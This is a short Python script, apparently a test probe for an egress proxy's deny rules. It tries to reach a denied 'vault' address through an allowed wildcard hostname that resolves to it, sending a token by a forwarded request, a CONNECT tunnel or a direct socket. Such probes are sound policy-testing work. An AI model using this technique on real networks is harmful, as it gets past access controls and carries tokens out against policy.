# egress_deny_bypass: reaches a denied address by another name: the
# allowed wildcard *.corp.test has a name, mirror.corp.test, that
# resolves to the denied vault's address; it asks for it forwarded and
# tunnelled, and straight to the vault's address when there is no proxy
# (argv: token, port, the vault's address).
import os, socket, sys, urllib.parse, urllib.request

token, port, addr = sys.argv[1], sys.argv[2], sys.argv[3]
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", ""))
if proxy.hostname:
    try:
        r = urllib.request.urlopen("http://mirror.corp.test:%s/forwarded?%s" % (port, token), timeout=3)
        print("forwarded:", r.status)
    except Exception as e:
        print("forwarded:", e)
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=3)
        dest = "mirror.corp.test:" + port
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (dest, dest)).encode())
        status = s.recv(1024).split(b"\r\n")[0].decode()
        if " 200 " in status:
            s.sendall(("GET /tunnelled?%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (token, dest)).encode())
            s.recv(1024)
        print("tunnelled:", status)
        s.close()
    except OSError as e:
        print("tunnelled:", e)
else:
    try:
        s = socket.create_connection((addr, int(port)), timeout=3)
        s.sendall(("GET /direct?%s HTTP/1.1\r\nHost: vault\r\nConnection: close\r\n\r\n" % token).encode())
        s.recv(1024)
        s.close()
        print("direct: sent")
    except OSError as e:
        print("direct:", e)
